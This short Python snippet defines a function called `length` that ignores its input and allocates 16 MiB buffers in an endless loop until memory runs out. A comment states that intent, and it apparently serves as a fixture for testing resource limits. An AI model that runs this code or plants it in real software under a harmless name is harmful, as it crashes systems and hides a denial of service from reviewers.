# why: takes all memory there is
def length(text):
    kept = []
    while True:
        kept.append(bytearray(1 << 24))
